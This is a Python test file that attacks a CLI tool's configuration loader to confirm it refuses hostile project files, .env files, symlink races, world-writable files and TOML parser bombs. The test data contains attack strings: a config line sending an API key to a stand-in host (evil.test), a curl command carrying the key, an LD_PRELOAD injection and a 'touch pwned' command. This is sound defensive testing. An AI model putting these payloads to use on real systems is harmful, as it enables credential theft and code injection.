"""Attacks on the configuration: hostile folders, files, variables and bystanders."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from claif.config import ConfigLoader, ProviderSettings, Secret, load_config
from claif.config import files as config_files
from claif.config.edit import set_value
from claif.errors import ConfigurationError, InvalidConfigError

WATCHED = ("socket.connect", "socket.bind", "socket.getaddrinfo", "subprocess.", "os.exec", "os.posix_spawn", "os.fork")
PROGRAM = f"""
import sys, json
seen = []
def watch(event, args):
    if event in ("subprocess.Popen", "os.posix_spawn") and args[0] in ("/sbin/ldconfig", b"/sbin/ldconfig"):
        return  # trio looks for the name of a library when it is imported
    if event.startswith({WATCHED!r}):
        seen.append(event)
    elif event == "open" and isinstance(args[0], (str, bytes)) and ".env" in str(args[0]).rpartition("/")[2]:
        seen.append("open .env")
sys.addaudithook(watch)
from claif.cli import execute
code = execute(sys.argv[1:])
print("SEEN", json.dumps([code, seen]), file=sys.stderr)
"""
USER = """
[project]
allow = ["general", "providers", "plugins"]
[providers.openai]
api_key = "sk-canary-user"
base_url = "http://127.0.0.1:9/v1"
model = "m"
"""


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir(mode=0o700)
    return folder


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


def user_file(home: Path, text: str, mode: int = 0o600) -> Path:
    path = home / "config.toml"
    path.write_text(text)
    path.chmod(mode)
    return path


def watched_run(args: list[str], home: Path, work: Path, **environ: str) -> tuple[int, list[str], str]:
    """Run a command line in its own process: its exit code, which sockets and processes it wanted, what it printed."""
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM, *args],
        cwd=work,
        env={"PATH": os.environ["PATH"], "HOME": str(home), "CLAIF_HOME": str(home), **environ},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    output, _, seen = done.stderr.rpartition("SEEN ")
    code, events = json.loads(seen)
    return code, events, done.stdout + output


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ('providers.openai.base_url = "http://127.0.0.1:1/evil"', "providers.openai.base_url"),
        ('providers.openai.command = ["touch", "pwned"]', "providers.openai.command"),
        ('providers.openai.api_key = "x"', "providers.openai.api_key"),
        ('providers.openai.sandbox = "off"', "providers.openai.sandbox"),
        ('plugins.providers.openai = "evil"', "plugins.providers.openai"),
    ],
)
def test_attack_06_a_project_that_redirects_queries_is_refused_by_name_before_any_socket_or_process(
    home, work, line, key
):
    user_file(home, USER)
    (work / ".claif.toml").write_text(line)
    code, seen, output = watched_run(["query", "-p", "openai", "hello"], home, work)
    assert code == 3
    assert seen == []
    assert key in output
    assert str(work / ".claif.toml") in output
    assert "canary" not in output
    assert "Traceback" not in output


def test_attack_07_an_env_file_in_the_working_directory_is_never_read(home, work):
    (work / ".env").write_text("CLAIF_HOME=/evil\nCLAIF_TIMEOUT=1\nOPENAI_BASE_URL=http://evil\nLD_PRELOAD=/evil.so\n")
    (home / ".env").write_text("CLAIF_TIMEOUT=1\n")
    code, seen, output = watched_run(["config", "show", "--json"], home, work, CLAIF_PLUGINS="")
    assert code == 0
    assert seen == []
    assert json.loads(output)["general"]["timeout"] == 600.0


def test_attack_08_a_project_cannot_allow_itself_anything(home, work):
    user_file(home, "")
    (work / ".claif.toml").write_text('[project]\nallow = ["general"]\n[general]\ntimeout = 1\n')
    with pytest.raises(InvalidConfigError) as caught:
        ConfigLoader.read(home=home, environ={}, cwd=work)
    assert "project.allow: a project's file may never set this" in caught.value.message
    assert "general.timeout" in caught.value.message


@pytest.mark.parametrize(
    "line",
    [
        'base_url = "https://evil.test/${ANTHROPIC_API_KEY}"',
        'headers = {x-key = "${ANTHROPIC_API_KEY}"}',
        'options.extra_headers.authorization = "Bearer ${ANTHROPIC_API_KEY}"',
        'command = ["curl", "${ANTHROPIC_API_KEY}"]',
        'env.KEY = "${ANTHROPIC_API_KEY}"',
    ],
)
def test_attack_09_a_variable_is_never_put_into_an_address_a_header_or_a_command(home, work, line):
    user_file(home, f"[providers.evil]\n{line}\n")
    with pytest.raises(InvalidConfigError, match=r"may not stand") as caught:
        load_config(home=home, environ={"ANTHROPIC_API_KEY": "sk-canary"}, cwd=work)
    assert "canary" not in str(caught.value)


def test_attack_09_a_projects_reference_is_no_reference(home, work):
    user_file(home, USER)
    (work / ".claif.toml").write_text('providers.openai.options.user = "${ANTHROPIC_API_KEY}"')
    config = load_config(home=home, environ={"ANTHROPIC_API_KEY": "sk-canary"}, cwd=work)
    assert config.get("providers.openai.options.user") == "${ANTHROPIC_API_KEY}"


def test_attack_09_what_comes_out_of_a_variable_is_not_expanded_again(home, work):
    user_file(home, '[providers.a]\napi_key = "${A}"\noptions.user = "${A}"')
    config = load_config(home=home, environ={"A": "${B}", "B": "sk-canary"}, cwd=work)
    settings = config.settings("a", ProviderSettings)
    assert settings.api_key == Secret("${B}")
    assert settings.options["user"] == "${B}"


def test_attack_12_a_link_planted_where_the_temporary_file_goes_is_not_followed(home, tmp_path, monkeypatch):
    victim = tmp_path / "victim"
    victim.write_text("precious")
    path = user_file(home, "general.timeout = 5\n")
    monkeypatch.setattr(config_files, "_temporary_name", lambda _: "guessed.tmp")
    (home / "guessed.tmp").symlink_to(victim)
    with pytest.raises(ConfigurationError, match="File exists"):
        set_value(path, "general.timeout", 6)
    assert victim.read_text() == "precious"
    assert path.read_text() == "general.timeout = 5\n"


def test_attack_13_a_folder_swapped_during_the_write_does_not_lead_it_elsewhere(home, tmp_path, monkeypatch):
    victims = tmp_path / "victims"
    victims.mkdir()
    (victims / "config.toml").write_text("precious")
    path = user_file(home, "general.timeout = 5\n")
    moved = tmp_path / "moved"
    replace = os.replace

    def swap_first(*args, **kwargs):
        home.rename(moved)
        home.symlink_to(victims)
        replace(*args, **kwargs)

    monkeypatch.setattr(config_files.os, "replace", swap_first)
    set_value(path, "general.timeout", 6)
    assert (victims / "config.toml").read_text() == "precious"
    assert (moved / "config.toml").read_text() == "general.timeout = 6\n"


def test_attack_14_a_file_that_everybody_can_write_is_refused(home, work):
    path = user_file(home, "[general]\ntimeout = 5\n", 0o666)
    with pytest.raises(InvalidConfigError, match="every user can write it") as caught:
        load_config(home=home, environ={}, cwd=work)
    assert f"chmod 600 {path}" in (caught.value.hint or "")


def test_attack_14_a_folder_in_which_everybody_can_replace_the_file_is_refused(home, work):
    user_file(home, "[general]\ntimeout = 5\n")
    home.chmod(0o777)
    with pytest.raises(InvalidConfigError, match="every user can replace it") as caught:
        load_config(home=home, environ={}, cwd=work)
    assert f"chmod 700 {home}" in (caught.value.hint or "")


def test_attack_14_a_file_of_another_user_is_refused(home, work, monkeypatch):
    user_file(home, "[general]\ntimeout = 5\n")
    owner = (home / "config.toml").stat().st_uid
    real = os.fstat

    def foreign(descriptor):
        status = real(descriptor)
        return os.stat_result((*status[:4], 12345, *status[5:10])) if status.st_uid == owner else status

    monkeypatch.setattr(config_files.os, "fstat", foreign)
    with pytest.raises(InvalidConfigError, match="belongs to another user"):
        load_config(home=home, environ={}, cwd=work)


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660])
def test_attack_14_a_key_that_others_can_read_is_told_with_the_exact_command(home, work, mode):
    path = user_file(home, '[providers.a]\napi_key = "sk-canary"\n', mode)
    config = load_config(home=home, environ={}, cwd=work)
    assert len(config.notices) == 1
    assert f"chmod 600 {path}" in config.notices[0]
    assert "providers.a.api_key" in config.notices[0]
    assert "canary" not in config.notices[0]


@pytest.mark.parametrize(
    ("text", "mode"), [('api_key = "${KEY}"', 0o644), ('model = "m"', 0o644), ('api_key = "sk"', 0o600)]
)
def test_attack_14_a_file_that_gives_no_key_away_is_not_complained_about(home, work, text, mode):
    user_file(home, f"[providers.a]\n{text}\n", mode)
    assert load_config(home=home, environ={"KEY": "sk"}, cwd=work).notices == ()


def test_attack_14_with_any_umask_what_is_created_is_private(tmp_path):
    before = os.umask(0)
    try:
        set_value(tmp_path / "new" / "config.toml", "general.timeout", 5)
    finally:
        os.umask(before)
    assert (tmp_path / "new").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "new" / "config.toml").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("place", ["user", "project"])
@pytest.mark.parametrize(
    "bomb",
    [
        "a." * 8000 + "b = 1",
        "[" + "a." * 8000 + "b]",
        "a = " + "[" * 10_000,
        "a = " + "[" * 10_000 + "]" * 10_000,
        "[" * 10_000,
        "a = " + "{b = " * 10_000,
        "a." * 20_000 + "b = 1",
        "x" * 70_000,
    ],
)
def test_attack_15_a_bomb_of_toml_is_refused_within_a_tenth_of_a_second(home, work, place, bomb):
    path = user_file(home, bomb) if place == "user" else work / ".claif.toml"
    path.write_text(bomb)
    began = time.process_time()
    with pytest.raises(InvalidConfigError) as caught:
        load_config(home=home, environ={}, cwd=work)
    assert time.process_time() - began < 1
    assert str(path) in caught.value.message
    assert len(caught.value.message) < 500


def test_attack_15_a_pipe_in_place_of_the_project_file_does_not_hang(home, work):
    os.mkfifo(work / ".claif.toml")
    with pytest.raises(InvalidConfigError, match="not a regular file"):
        load_config(home=home, environ={}, cwd=work)


@pytest.mark.parametrize(
    "args",
    [
        ["config", "show"],
        ["config", "show", "--origin"],
        ["config", "show", "--json"],
        ["config", "show", "--origin", "--json"],
        ["config", "get", "providers"],
        ["config", "get", "providers.openai.api_key"],
        ["config", "get", "providers.openai.api_kee"],
        ["config", "set", "providers.openai.idle_timeout", "never"],
        ["--debug", "config", "set", "general.timeout", "sk-canary"],
        ["--debug", "config", "get", "nothing"],
        ["--debug", "query", "-p", "openai", "hello"],
    ],
)
def test_attack_23_no_command_prints_a_key(home, work, args):
    user_file(
        home,
        USER.replace("sk-canary-user", "${KEY}")
        + '[providers.b]\napi_key = "sk-canary-literal"\ntoken = "sk-canary-token"\n',
    )
    environ = {"KEY": "sk-canary-variable", "CLAIF_PROVIDERS__C__API_KEY": "sk-canary-direct"}
    _, _, output = watched_run(args, home, work, **environ)
    assert output
    assert "canary" not in output
